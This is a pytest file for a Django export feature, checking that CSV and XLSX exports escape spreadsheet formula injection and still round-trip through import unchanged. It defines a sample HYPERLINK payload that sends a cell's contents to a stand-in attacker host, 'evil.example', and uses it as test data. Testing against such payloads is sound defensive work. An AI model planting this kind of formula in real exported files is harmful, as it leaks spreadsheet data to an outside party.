"""No cell of an export can run as a formula in a spreadsheet program, and an export
imports again unchanged."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from exchange.balance.export import balance_report
from exchange.balance.totals import Period
from exchange.core.tables import escape_formula, unescape_formula
from exchange.transfer.exports import export_partners
from exchange.transfer.partners import import_partners
from partners.models import Partner
from tests.factories import ItemFactory, PartnerFactory, ShipmentFactory

pytestmark = pytest.mark.django_db
LINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_a_text_that_starts_a_formula_is_escaped_and_read_back(text):
    assert escape_formula(text) == "'" + text
    assert unescape_formula(escape_formula(text)) == text


def test_other_values_are_left_as_they_are():
    assert [escape_formula(v) for v in ("A=1", "'quoted", 5, None)] == ["A=1", "'quoted", 5, None]
    assert unescape_formula("'quoted") == "'quoted"


def test_the_partner_export_escapes_formulas_in_csv_and_writes_text_cells_in_xlsx():
    PartnerFactory(code="X-1", name=LINK, city="=1+1")
    csv_text = export_partners(Partner.objects.all(), "csv").decode()
    assert "'=HYPERLINK(" in csv_text and ",'=1+1," in csv_text
    sheet = load_workbook(io.BytesIO(export_partners(Partner.objects.all(), "xlsx"))).active
    cell = sheet["B2"]
    assert (cell.value, cell.data_type) == (LINK, "s")


def test_an_exported_csv_imports_again_unchanged():
    PartnerFactory(code="X-1", name=LINK, city="-Minus")
    exported = export_partners(Partner.objects.all(), "csv")
    Partner.objects.all().delete()
    assert import_partners(io.BytesIO(exported), "partners.csv").written
    partner = Partner.objects.get()
    assert (partner.name, partner.city) == (LINK, "-Minus")
    assert export_partners(Partner.objects.all(), "csv") == exported


def test_the_balance_csv_escapes_names_but_not_negative_numbers():
    partner = PartnerFactory(code="X-1", name="=1+1")
    ItemFactory(
        shipment=ShipmentFactory(
            partner=partner, direction="incoming", status="received", received_on="2025-03-01"
        ),
        quantity=3,
    )
    row = balance_report(period=Period()).splitlines()[1].split(",")
    assert row[1] == "'=1+1"
    assert row[6] == "-3"


def test_the_report_xlsx_writes_a_formula_like_name_as_text(head_client):
    PartnerFactory(code="X-1", name=LINK)
    response = head_client.get(reverse("exchange:report_balance", args=["xlsx"]), {"period": "all"})
    sheet = load_workbook(io.BytesIO(response.getvalue())).active
    names = [cell for cell in sheet["B"] if cell.value == LINK]
    assert names and all(cell.data_type == "s" for cell in names)
